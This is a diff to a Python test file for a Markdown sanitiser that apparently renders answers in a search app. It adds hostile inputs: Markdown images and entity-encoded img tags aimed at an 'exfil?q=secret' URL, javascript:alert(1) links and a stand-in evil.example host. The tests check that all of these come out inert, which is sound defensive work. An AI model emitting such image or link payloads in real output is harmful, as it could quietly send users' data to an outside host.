@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from searchduel.safe_markdown import LINK_REL, safe_markdown, safe_url
+from searchduel.safe_markdown import LINK_REL, markdown_href, plain_text, safe_markdown, safe_url
 
 EXFIL = "http://127.0.0.1:9/exfil?q=secret"
 
@@ -31,11 +31,24 @@ def tags(text: str) -> list[str]:
         f'<link rel="stylesheet" href="{EXFIL}">',
         f'<video poster="{EXFIL}"></video>',
         f"<!-- <img src={EXFIL}> -->",
+        f"[a]: {EXFIL}\n\n![b][a]",
+        f"![b][]\n\n[b]: {EXFIL}",
+        f"![shortcut]\n\n[Shortcut]:  <{EXFIL}>  'title'",
+        f"![alt across\nlines]({EXFIL})",
+        f'![x]({EXFIL} "a ) in the title")',
+        f"![[nested]]({EXFIL})",
+        f"![x](  {EXFIL}  )",
+        f"<{EXFIL}>",
+        f"&lt;img src={EXFIL}&gt;",
+        f"&#60;img src={EXFIL}&#62;",
+        f"\\<img src={EXFIL}>",
+        f"[![inner]({EXFIL})](https://ok.example/)",
     ],
 )
 def test_nothing_renders_as_an_image_or_a_raw_tag(hostile: str) -> None:
     out = safe_markdown(f"Answer text. {hostile} More.")
-    assert "![" not in out, "no Markdown image left"
+    assert "![" not in out and "!\\[" not in out, "no Markdown image left"
+    assert "<img" not in out.lower() and "<image" not in out.lower()
     for tag in tags(out):
         assert re.match(r"a |/a$", tag), f"only our own anchors remain, found <{tag}>"
     assert "Answer text." in out and "More." in out
@@ -73,3 +86,45 @@ def test_plain_text_and_comparisons_pass_unchanged() -> None:
     text = "If a < b and b > c, then 2<3; citations [1][2] stay. mail me@example.org"
     assert safe_markdown(text) == text
     assert safe_markdown("") == ""
+
+
+@pytest.mark.parametrize("url", ["mailto:me@example.org", "//evil.example/x", "http:/x"])
+def test_only_absolute_http_links_stay_links(url: str) -> None:
+    assert safe_markdown(f"[write]({url})") == "write"
+
+
+def test_reference_links_become_our_anchors_and_definitions_go() -> None:
+    out = safe_markdown('See [the tables][t] or [T].\n\n[t]: https://tides.example/ "Tides"')
+    anchor = f'<a href="https://tides.example/" target="_blank" rel="{LINK_REL}">'
+    assert out.count(anchor) == 2 and "[t]:" not in out
+    assert safe_markdown("[x][j]\n\n[j]: javascript:alert(1)") == "x\n\n"
+
+
+def test_a_defined_number_never_hijacks_a_citation() -> None:
+    assert safe_markdown(f"tides [1]\n\n[1]: {EXFIL}").startswith("tides [1]")
+
+
+def test_entities_stay_text() -> None:
+    out = safe_markdown("&lt;img src=x onerror=alert(1)&gt; &amp;lt;b&amp;gt;")
+    assert "<img" not in out and out.startswith("&lt;img")
+
+
+@pytest.mark.parametrize(
+    "field",
+    [
+        f"![x]({EXFIL})",
+        f"<img src={EXFIL}>",
+        f"x)![y]({EXFIL}",
+        "a | b [c](javascript:alert(1))",
+    ],
+)
+def test_short_fields_are_plain_text(field: str) -> None:
+    out = plain_text(field)
+    assert "<" not in out
+    for syntax in "[]!|\\`":
+        assert syntax not in out.replace("&#", ""), f"{syntax!r} is written as an entity"
+
+
+def test_link_destinations_cannot_end_early() -> None:
+    href = markdown_href(f'https://e.example/x)![y]({EXFIL}) a"b')
+    assert not any(c in href for c in ' ()[]"')
